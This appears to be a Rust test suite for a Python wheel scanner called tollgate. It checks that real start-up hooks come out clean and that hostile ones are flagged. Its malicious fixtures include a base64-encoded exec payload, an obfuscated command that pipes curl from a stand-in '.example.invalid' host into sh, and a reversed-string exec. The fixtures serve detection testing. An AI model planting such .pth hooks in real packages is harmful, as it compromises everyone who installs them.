//! Verdicts on the shapes of real wheels that must not be refused (start-up hooks of
//! setuptools, namespace packages and pytest-cov; IPython's code strings; big libraries
//! whose weak capabilities add up), next to the attacks they resemble. Every case is
//! written for tollgate; the benign ones copy the shape of the named project's code, the
//! malicious ones use hosts under `.example.invalid`.

mod common;

use common::{rules, verdict};
use tollgate_analysis::VerdictLevel;

const WHEEL_METADATA: (&str, &str) = (
    "fixture-1.0.dist-info/METADATA",
    "Metadata-Version: 2.1\nName: fixture\nVersion: 1.0\n",
);
const WHEEL_FILE: (&str, &str) = (
    "fixture-1.0.dist-info/WHEEL",
    "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
);

#[test]
fn start_up_hooks_of_real_wheels_are_clean() {
    for pth in [
        // setuptools' distutils-precedence.pth
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
        // a namespace package's -nspkg.pth
        "import sys, types, os;has_mfs = sys.version_info > (3, 5);importlib = has_mfs and __import__('importlib.util');m = sys.modules.setdefault('ns', types.ModuleType('ns'))\n",
        // pytest-cov's start-up hook
        "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n  from fixture.embed import init\\n  init()\\n')\n",
    ] {
        let verdict = verdict(&[WHEEL_METADATA, WHEEL_FILE, ("fixture.pth", pth)]);
        assert_eq!(verdict.level, VerdictLevel::Clean, "{pth}\n{verdict:#?}");
    }
}

#[test]
fn start_up_hooks_that_compute_or_decode_what_they_run_are_malicious() {
    for pth in [
        "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n",
        "import os; __import__('o' + 's').system('curl -s https://x.example.invalid/a | sh')\n",
        "import os; __import__(os.environ['M'])\n",
    ] {
        let verdict = verdict(&[WHEEL_METADATA, WHEEL_FILE, ("fixture.pth", pth)]);
        assert_eq!(
            verdict.level,
            VerdictLevel::Malicious,
            "{pth}\n{verdict:#?}"
        );
        assert!(rules(&verdict).contains(&"pth-code"), "{verdict:#?}");
    }
}

#[test]
fn a_code_string_written_out_in_the_file_is_not_built_at_run_time() {
    // IPython's pylab import: literal lines joined by implicit concatenation.
    let plain = verdict(&[
        WHEEL_METADATA,
        WHEEL_FILE,
        (
            "fixture/__init__.py",
            "s = (\"import numpy\\n\"\n     \"np = numpy\\n\")\nexec(s, {})\n",
        ),
    ]);
    assert!(!rules(&plain).contains(&"exec-built"), "{plain:#?}");
    let hidden = verdict(&[
        WHEEL_METADATA,
        WHEEL_FILE,
        (
            "fixture/__init__.py",
            "s = 'mi tropmi'[::-1] + '; os.system(\"id\")'\nexec(s)\n",
        ),
    ]);
    assert!(rules(&hidden).contains(&"exec-built"), "{hidden:#?}");
}

#[test]
fn many_weak_capabilities_across_a_library_stay_below_malicious() {
    // The shape of IPython: each module does one ordinary thing, none runs on its own.
    let verdict = verdict(&[
        WHEEL_METADATA,
        WHEEL_FILE,
        ("fixture/__init__.py", "from . import a, b, c, d\n"),
        (
            "fixture/a.py",
            "import os, socket, subprocess\nENV = dict(os.environ)\nHOST = socket.gethostname()\nsubprocess.run(['uname', '-a'])\n",
        ),
        (
            "fixture/b.py",
            "import subprocess, urllib.request\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\ndef fetch(u):\n    return urllib.request.urlopen(u).read()\n",
        ),
        (
            "fixture/c.py",
            "import tkinter\ndef paste(root):\n    return root.clipboard_get()\n",
        ),
        (
            "fixture/d.py",
            "def calc(expr, ns):\n    return eval(expr, ns)\nPASTE = 'https://dpaste.com/api/'\n",
        ),
    ]);
    assert!(verdict.level < VerdictLevel::Malicious, "{verdict:#?}");
    // The reasons add up past the line; the cap is what holds the score under it.
    let sum: u32 = verdict.reasons.iter().map(|r| r.points).sum();
    assert!(sum >= tollgate_analysis::MALICIOUS_AT, "{verdict:#?}");
    assert_eq!(
        verdict.score,
        tollgate_analysis::MALICIOUS_AT - 1,
        "{verdict:#?}"
    );
}

#[test]
fn weak_capabilities_count_from_the_file_that_gathers_them() {
    let spread = verdict(&[
        WHEEL_METADATA,
        WHEEL_FILE,
        ("fixture/__init__.py", "from . import a, b, c\n"),
        ("fixture/a.py", "import os\nENV = dict(os.environ)\n"),
        (
            "fixture/b.py",
            "import socket\nHOST = socket.gethostname()\n",
        ),
        (
            "fixture/c.py",
            "import subprocess\nsubprocess.run(['uname', '-a'])\n",
        ),
    ]);
    let gathered = verdict(&[
        WHEEL_METADATA,
        WHEEL_FILE,
        (
            "fixture/__init__.py",
            "import os, socket, subprocess\nENV = dict(os.environ)\nHOST = socket.gethostname()\nsubprocess.run(['uname', '-a'])\n",
        ),
    ]);
    assert!(spread.score < gathered.score, "{spread:#?}\n{gathered:#?}");
    let files: std::collections::BTreeSet<&str> = spread
        .reasons
        .iter()
        .filter(|r| r.rule != "combination")
        .map(|r| r.file.as_str())
        .collect();
    assert_eq!(files.len(), 1, "{spread:#?}");
}
